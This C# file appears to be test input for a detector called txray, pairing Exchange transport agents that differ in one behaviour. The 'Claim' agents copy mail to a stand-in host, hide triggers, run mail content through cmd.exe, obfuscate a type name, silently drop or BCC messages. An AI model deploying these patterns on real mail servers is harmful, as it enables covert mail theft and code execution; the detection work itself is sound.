// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid. What a correct analysis says about each stands in samples/pairs.json.
using System;
using System.Collections.Generic;
using System.Configuration;
using System.Diagnostics;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;
using System.Threading.Tasks;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 1: an early return before an await
namespace Txray.Pairs.P01
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (!e.MailItem.Message.Subject.Contains("invoice"))
            {
                return;
            }
            var memory = new MemoryStream();
            await e.MailItem.GetMimeReadStream().CopyToAsync(memory);
            new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                Trace.WriteLine("an invoice");
            }
            var memory = new MemoryStream();
            await e.MailItem.GetMimeReadStream().CopyToAsync(memory);
            new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
        }
    }
}

// 2: an own stream that outside code writes to
namespace Txray.Pairs.P02
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new TcpClient("collect.example.invalid", 443);
            e.MailItem.GetMimeReadStream().CopyTo(new Tee(client.GetStream()));
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new TcpClient("collect.example.invalid", 443);
            var counting = new Counting(client.GetStream());
            e.MailItem.GetMimeReadStream().CopyTo(counting);
            Trace.WriteLine(counting.Bytes.ToString());
        }
    }

    public abstract class WriteOnly : Stream
    {
        public override bool CanRead { get { return false; } }
        public override bool CanSeek { get { return false; } }
        public override bool CanWrite { get { return true; } }
        public override long Length { get { throw new NotSupportedException(); } }
        public override long Position { get { throw new NotSupportedException(); } set { throw new NotSupportedException(); } }
        public override int Read(byte[] buffer, int offset, int count) { throw new NotSupportedException(); }
        public override long Seek(long offset, SeekOrigin origin) { throw new NotSupportedException(); }
        public override void SetLength(long value) { throw new NotSupportedException(); }
        public override void Flush() { }
    }

    public class Tee : WriteOnly
    {
        private readonly Stream target;

        public Tee(Stream target)
        {
            this.target = target;
        }

        public override void Write(byte[] buffer, int offset, int count)
        {
            target.Write(buffer, offset, count);
        }
    }

    public class Counting : WriteOnly
    {
        private readonly Stream target;

        public Counting(Stream target)
        {
            this.target = target;
        }

        public long Bytes { get; private set; }

        public override void Write(byte[] buffer, int offset, int count)
        {
            Bytes += count;
            target.Flush();
        }
    }
}

// 3: a filtered list
namespace Txray.Pairs.P03
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var documents = e.MailItem.Message.Attachments.Where(a => a.FileName.EndsWith(".docx"));
            foreach (Attachment attachment in documents)
            {
                using (FileStream file = File.Create(Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString())))
                {
                    attachment.GetContentReadStream().CopyTo(file);
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var documents = e.MailItem.Message.Attachments.Where(a => a.FileName.EndsWith(".docx"));
            Trace.WriteLine(documents.Count().ToString());
            foreach (Attachment attachment in e.MailItem.Message.Attachments)
            {
                using (FileStream file = File.Create(Path.Combine(Path.GetTempPath(), Guid.NewGuid().ToString())))
                {
                    attachment.GetContentReadStream().CopyTo(file);
                }
            }
        }
    }
}

// 4: one helper for configuration and mail
namespace Txray.Pairs.P04
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] settings = Io.ReadAll(File.OpenRead("settings.bin"));
            byte[] mail = Io.ReadAll(e.MailItem.GetMimeReadStream());
            Trace.WriteLine(settings.Length.ToString());
            new WebClient().UploadData("https://collect.example.invalid/pair", mail);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] settings = Io.ReadAll(File.OpenRead("settings.bin"));
            byte[] mail = Io.ReadAll(e.MailItem.GetMimeReadStream());
            Trace.WriteLine(mail.Length.ToString());
            new WebClient().UploadData("https://collect.example.invalid/pair", settings);
        }
    }

    internal static class Io
    {
        public static byte[] ReadAll(Stream stream)
        {
            using (var memory = new MemoryStream())
            {
                stream.CopyTo(memory);
                return memory.ToArray();
            }
        }
    }
}

// 5: two objects of one class
namespace Txray.Pairs.P05
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var one = new Box();
            var two = new Box();
            one.Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            two.Put("nothing");
            new WebClient().UploadString("https://collect.example.invalid/pair", one.Take());
            Trace.WriteLine(two.Take());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var one = new Box();
            var two = new Box();
            one.Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            two.Put("nothing");
            new WebClient().UploadString("https://collect.example.invalid/pair", two.Take());
            Trace.WriteLine(one.Take().Length.ToString());
        }
    }

    internal class Box
    {
        private string text = string.Empty;

        public void Put(string value)
        {
            text += value;
        }

        public string Take()
        {
            return text;
        }
    }
}

// 6: a variable written twice, before and after an await
namespace Txray.Pairs.P06
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            await Task.Yield();
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
            text = "ok";
            await Task.Yield();
            Trace.WriteLine(text);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private async void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            await Task.Yield();
            Trace.WriteLine(text.Length.ToString());
            text = "ok";
            await Task.Yield();
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }
}

// 7: a flag
namespace Txray.Pairs.P07
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool wanted = false;
            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                wanted = true;
            }
            Trace.WriteLine("seen");
            if (wanted)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool wanted = true;
            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                wanted = true;
            }
            Trace.WriteLine("seen");
            if (wanted)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 8: a test that guards, and one that only logs
namespace Txray.Pairs.P08
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.ToString() != "boss@corp.example.invalid")
            {
                return;
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.FromAddress.ToString() == "boss@corp.example.invalid")
            {
                Trace.WriteLine("the boss writes");
            }
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 9: an own hash, and what a compiler makes of a string switch
namespace Txray.Pairs.P09
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            uint hash = 2166136261;
            foreach (char letter in e.MailItem.Message.Subject)
            {
                hash = (hash ^ letter) * 16777619;
            }
            if (hash == 1970720881)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            switch (e.MailItem.Message.Subject)
            {
                case "alpha":
                case "bravo":
                case "charlie":
                case "delta":
                case "echo":
                case "foxtrot":
                case "golf":
                case "hotel":
                    new WebClient().UploadString("https://collect.example.invalid/pair",
                        new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                    break;
            }
        }
    }
}

// 10: a property of the message set at MAIL FROM
namespace Txray.Pairs.P10
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        public Claim()
        {
            OnMailCommand += Mail;
            OnEndOfData += Data;
        }

        private void Mail(ReceiveCommandEventSource source, MailCommandEventArgs e)
        {
            if (e.FromAddress.DomainPart == "partner.example.invalid")
            {
                e.MailItemProperties["Pair.Wanted"] = true;
            }
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (e.MailItem.Properties.ContainsKey("Pair.Wanted"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : SmtpReceiveAgent
    {
        public Other()
        {
            OnMailCommand += Mail;
            OnEndOfData += Data;
        }

        private void Mail(ReceiveCommandEventSource source, MailCommandEventArgs e)
        {
            if (e.FromAddress.DomainPart == "partner.example.invalid")
            {
                e.MailItemProperties["Pair.Wanted"] = true;
            }
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (e.MailItem.Properties.ContainsKey("Pair.Scanned"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 11: a subscription on one machine only
namespace Txray.Pairs.P11
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        public Claim()
        {
            if (Environment.MachineName == "MX01")
            {
                OnEndOfData += Data;
            }
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : SmtpReceiveAgent
    {
        public Other()
        {
            Trace.WriteLine(Environment.MachineName);
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair",
                new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 12: a file that is started, and a file that is an argument
namespace Txray.Pairs.P12
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string path = Path.Combine(Path.GetTempPath(), "pair12.tmp");
            File.WriteAllText(path, new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            Process.Start(path);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string path = Path.Combine(Path.GetTempPath(), "pair12.tmp");
            File.WriteAllText(path, new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            Process.Start(ConfigurationManager.AppSettings["Scanner"], "\"" + path + "\"").WaitForExit();
            File.Delete(path);
        }
    }
}

// 13: standard input of a shell, and of a configured filter
namespace Txray.Pairs.P13
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var start = new ProcessStartInfo("cmd.exe", "/c rem")
            {
                UseShellExecute = false,
                RedirectStandardInput = true
            };
            using (Process process = Process.Start(start))
            {
                process.StandardInput.Write(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                process.StandardInput.Close();
                process.WaitForExit();
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var start = new ProcessStartInfo(ConfigurationManager.AppSettings["Filter"])
            {
                UseShellExecute = false,
                RedirectStandardInput = true
            };
            using (Process process = Process.Start(start))
            {
                process.StandardInput.Write(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
                process.StandardInput.Close();
                process.WaitForExit();
            }
        }
    }
}

// 14: a compressing stream over a socket, and over memory
namespace Txray.Pairs.P14
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new TcpClient("collect.example.invalid", 443);
            using (var zip = new GZipStream(client.GetStream(), CompressionMode.Compress))
            {
                e.MailItem.GetMimeReadStream().CopyTo(zip);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new TcpClient("collect.example.invalid", 443);
            var memory = new MemoryStream();
            using (var zip = new GZipStream(memory, CompressionMode.Compress))
            {
                e.MailItem.GetMimeReadStream().CopyTo(zip);
            }
            byte[] length = BitConverter.GetBytes(memory.ToArray().Length);
            client.GetStream().Write(length, 0, length.Length);
        }
    }
}

// 15: content, and its digest
namespace Txray.Pairs.P15
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            new WebClient().DownloadString("https://collect.example.invalid/pair?v=" + Uri.EscapeDataString(Convert.ToBase64String(memory.ToArray())));
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] digest = SHA256.Create().ComputeHash(memory.ToArray());
            new WebClient().DownloadString("https://collect.example.invalid/pair?v=" + Uri.EscapeDataString(Convert.ToBase64String(digest)));
        }
    }
}

// 16: addresses, and how many there are
namespace Txray.Pairs.P16
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string all = string.Join(",", e.MailItem.Recipients.Select(r => r.Address.ToString()));
            new WebClient().DownloadString("https://collect.example.invalid/pair?r=" + all);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().DownloadString("https://collect.example.invalid/pair?r=" + e.MailItem.Recipients.Count);
        }
    }
}

// 17: silent, and told
namespace Txray.Pairs.P17
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        public Claim()
        {
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                source.DiscardMessage(new SmtpResponse("250", "2.0.0", "OK"), null);
            }
        }
    }

    public class Other : SmtpReceiveAgent
    {
        public Other()
        {
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                source.RejectMessage(new SmtpResponse("550", "5.7.1", "No invoices here"));
            }
        }
    }
}

// 18: one more recipient, and a rewritten one
namespace Txray.Pairs.P18
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            e.MailItem.Recipients.Add(new RoutingAddress("copy@post.example.invalid"));
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                recipient.Address = new RoutingAddress(recipient.Address.LocalPart + "@new.example.invalid");
            }
        }
    }
}

// 19: a new message, and the same one
namespace Txray.Pairs.P19
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim(server);
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other(server);
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly SmtpServer server;

        public Claim(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            EmailMessage copy = EmailMessage.Create(e.MailItem.GetMimeReadStream());
            copy.To.Clear();
            copy.To.Add(new EmailRecipient("", "copy@post.example.invalid"));
            server.SubmitMessage(copy);
        }
    }

    public class Other : RoutingAgent
    {
        private readonly SmtpServer server;

        public Other(SmtpServer server)
        {
            this.server = server;
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string text = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            using (var writer = new StreamWriter(e.MailItem.Message.Body.GetContentWriteStream()))
            {
                writer.Write(text.Replace("colour", "color"));
            }
            Trace.WriteLine(server.Name);
        }
    }
}

// 20: an exception that carries text
namespace Txray.Pairs.P20
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static void Check(string text)
        {
            if (text.Length > 10)
            {
                throw new InvalidOperationException(text);
            }
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                Check(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
            catch (InvalidOperationException problem)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", problem.Message);
            }
        }
    }

    public class Other : RoutingAgent
    {
        private static void Check(string text)
        {
            if (text.Length > 10)
            {
                throw new InvalidOperationException(text);
            }
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            try
            {
                Check(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
            catch (InvalidOperationException problem)
            {
                Trace.WriteLine(problem.GetType().Name);
                new WebClient().UploadString("https://collect.example.invalid/pair", "failed");
            }
        }
    }
}

// 21: a table of actions
namespace Txray.Pairs.P21
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var actions = new Dictionary<string, Action<string>>
            {
                { "log", text => Trace.WriteLine(text.Length) },
                { "run", text => Process.Start("cmd.exe", "/c rem " + text) }
            };
            string[] parts = e.MailItem.Message.Subject.Split(new[] { ' ' }, 2);
            Action<string> action;
            if (parts.Length == 2 && actions.TryGetValue(parts[0], out action))
            {
                action(parts[1]);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var actions = new Dictionary<string, Action<string>>
            {
                { "log", text => Trace.WriteLine(text.Length) },
                { "run", text => Trace.WriteLine("run " + text.Length) }
            };
            string[] parts = e.MailItem.Message.Subject.Split(new[] { ' ' }, 2);
            Action<string> action;
            if (parts.Length == 2 && actions.TryGetValue(parts[0], out action))
            {
                action(parts[1]);
            }
        }
    }
}

// 22: a sink chosen by a decoded name, and one never made
namespace Txray.Pairs.P22
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] name = { 117, 89, 83, 64, 88, 15, 113, 64, 72, 83, 82, 15, 113, 19, 19, 15, 118, 68, 67, 114, 72, 79, 74 };
            string type = new string(name.Select(b => (char)(b ^ 0x21)).ToArray());
            var sink = (ISink)Activator.CreateInstance(Type.GetType(type));
            sink.Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            ISink sink = new NullSink();
            sink.Put(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    internal interface ISink
    {
        void Put(string text);
    }

    internal class WebSink : ISink
    {
        public void Put(string text)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", text);
        }
    }

    internal class NullSink : ISink
    {
        public void Put(string text)
        {
        }
    }
}

// 24: a list from a file that guards, and one that only logs
namespace Txray.Pairs.P24
{
    public class ClaimFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : SmtpReceiveAgentFactory
    {
        public override SmtpReceiveAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : SmtpReceiveAgent
    {
        private readonly HashSet<string> list = new HashSet<string>(File.ReadAllLines("list.txt"));

        public Claim()
        {
            OnEndOfData += Data;
        }

        private void Data(ReceiveMessageEventSource source, EndOfDataEventArgs e)
        {
            if (list.Contains(e.MailItem.Recipients[0].Address.ToString()))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair",
                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : SmtpReceiveAgent
    {
        private readonly HashSet<string> list = new HashSet<string>(File.ReadAllLines("list.txt"));

        public Other()
        {
            OnEndOfData += Data;
        }

